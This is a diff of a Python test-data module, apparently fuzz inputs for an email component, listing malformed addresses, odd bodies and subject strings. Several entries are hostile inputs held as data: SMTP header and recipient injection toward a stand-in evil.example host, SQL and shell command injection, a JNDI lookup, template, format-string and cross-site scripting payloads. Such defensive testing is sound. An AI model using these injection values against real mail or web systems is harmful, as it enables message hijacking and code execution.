@@ -35,7 +35,7 @@ LINES: list[str] = [
 
 BODIES: list[str] = [
     *(f"{MARK}{one}a" for one in NEVER_IN_A_BODY),
-    f"\0{MARK}", f"{MARK}\0", f"{MARK}\x1b[31m", f"{MARK}\r\n.\r\n\0", f"{MARK}\x85.\x85MAIL FROM:<eve@evil.example>",
+    f"\0{MARK}", f"{MARK}\0", f"{MARK}\x1b[31m", f"{MARK}\r\n.\r\n\0", f"{MARK}\x85.\x85MAIL FROM:<charlie@evil.example>",
 ]  # fmt: skip
 
 
@@ -60,7 +60,7 @@ HARMLESS: list[str] = [
     "\U0001f600", "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\U0001f1f3\U0001f1f1", "\U0001f44d\U0001f3fd", "e\u0301", "Z\u0336\u0338\u0327a\u0332l\u0347go",
     "Ω", "مرحبا", "שלום", "中文字", "日本語", "ไทย", "ǅ", "ﬁ", "\u00a0x", "x\u3000y", "\u00ad x", "\u200bx", "x\u200cy", "\ue000", "\ufffd", "\ufffe", "\uffff", "\U0010ffff", "\U0001d54f",
     "' or 1=1 --", "'; drop table tickets; --", "$(id)", "`id`", "${jndi:ldap://evil.example/a}", "{{7*7}}", "{% raw %}", "%s%s%n", "%(subject)s", "%(nothing)s", "{0}", "\\u0000", "\\r\\n" + BCC,
-    "%0d%0aBcc: x", "%00", "&#10;Bcc: x", "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "]]>", "<!--", "&lt;", "&", "a;b,c", "(comment)", "<eve@evil.example>", '"quoted"',
+    "%0d%0aBcc: x", "%00", "&#10;Bcc: x", "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "]]>", "<!--", "&lt;", "&", "a;b,c", "(comment)", "<charlie@evil.example>", '"quoted"',
     "\\", "Alice <alice@example.org>", "a@b", "=?", "?=", "=?utf-8?q?plain?=", "=?utf-8?b?SGk=?=", "=0A", "-- ", ".", "..", "From x", ">From", "null", "NaN", "true", "0", "x" * 150, "://", "\u2603\ufe0f",
 ]  # fmt: skip
 """Odd, and fine in a subject or a name; ``MARK`` is put before them."""
@@ -145,11 +145,11 @@ MEDIA_TYPES: list[str] = [
 ]  # fmt: skip
 
 ADDRESSES: list[str] = [
-    "", " ", "@", "bob", "bob@", "@example.com", "bob@example", "bob@@example.com", "bob@exam@ple.com", "bob example@example.com", " bob@example.com", "bob@example.com ", "bob@ example.com", "bob @example.com", "bob@example.com,eve@evil.example", "bob@example.com;eve@evil.example",
-    "bob@example.com eve@evil.example", "Bob <bob@example.com>", "<bob@example.com>", '"bob"@example.com', '"b ob"@example.com', '"bob\\"@x"@example.com', "bob(comment)@example.com", "(c)bob@example.com", "bob@example.com(c)", "bob@[127.0.0.1]", "bob@[IPv6:::1]", "bob@127.0.0.1", "bob@1.2", "bob@example.1",
+    "", " ", "@", "bob", "bob@", "@example.com", "bob@example", "bob@@example.com", "bob@exam@ple.com", "bob example@example.com", " bob@example.com", "bob@example.com ", "bob@ example.com", "bob @example.com", "bob@example.com,charlie@evil.example", "bob@example.com;charlie@evil.example",
+    "bob@example.com charlie@evil.example", "Bob <bob@example.com>", "<bob@example.com>", '"bob"@example.com', '"b ob"@example.com', '"bob\\"@x"@example.com', "bob(comment)@example.com", "(c)bob@example.com", "bob@example.com(c)", "bob@[127.0.0.1]", "bob@[IPv6:::1]", "bob@127.0.0.1", "bob@1.2", "bob@example.1",
     ".bob@example.com", "bob.@example.com", "b..ob@example.com", "bob@.example.com", "bob@example.com.", "bob@example..com", "bob@-example.com", "bob@example-.com", "bob@exam_ple.com", "bob@exam!ple.com", "bob@exam ple.com", "bob@example.c*m", "bob@" + "a" * 64 + ".com", "b" * 65 + "@example.com", "bob@" + "a." * 130 + "com",
     "é" * 33 + "@example.com", "bob@faß.de", "bob@straße.example", "bob@ς.example", "bob@a\u200db.example", "bob@a\u200cb.example", "bob@\U0001f600\ufe0f.example\u2028", "b\u200bob@example.com", "b\u00adob@example.com", "b\u00a0ob@example.com", "b\u3000ob@example.com", "b\u2060ob@example.com", "\ue000bob@example.com", "b\ufffeob@example.com", "b\U0010ffffob@example.com",
-    "bob@example.com\r\nBcc: eve@evil.example", "bob@example.com\nRCPT TO:<eve@evil.example>", "bob@example.com> SIZE=1", "bob@example.com>\r\nDATA", "bob\\@example.com", "bob,@example.com", "bob:x@example.com", "[bob]@example.com", "bob;x@example.com", "mailto:bob@example.com", "bob@example.com?subject=x", "bob@example.com#", "bob@example.com/x", "bob%evil.example@", "bob@exam%ple.com", "bob@example,com", "bob@xn--.com-", "bob@exa\\mple.com",
+    "bob@example.com\r\nBcc: charlie@evil.example", "bob@example.com\nRCPT TO:<charlie@evil.example>", "bob@example.com> SIZE=1", "bob@example.com>\r\nDATA", "bob\\@example.com", "bob,@example.com", "bob:x@example.com", "[bob]@example.com", "bob;x@example.com", "mailto:bob@example.com", "bob@example.com?subject=x", "bob@example.com#", "bob@example.com/x", "bob%evil.example@", "bob@exam%ple.com", "bob@example,com", "bob@xn--.com-", "bob@exa\\mple.com",
     "=?utf-8?q?bob?=@example.com", "=?utf-8?q?=0ABcc:_x?=@example.com", "=?utf-8?b?Cg==?=@example.com", "bob=?utf-8?q?=0D=0A?=x@example.com", "=?x@example.com", "a=?utf-8?q?b@example.com",
     "bob@" + "a" * 300 + ".com", "b" * 300 + "@example.com", "b'ob@exam'ple.com", "javascript:alert(1)@example.com", "bob@exam|ple.com", "bob@$(id).example", "bob@`id`.com", "../bob@../etc", "bob@{{7*7}}.com",
     *(f"b{one}ob@example.com" for one in NEVER_IN_A_LINE), *(f"bob@exam{one}ple.com" for one in NEVER_IN_A_LINE),
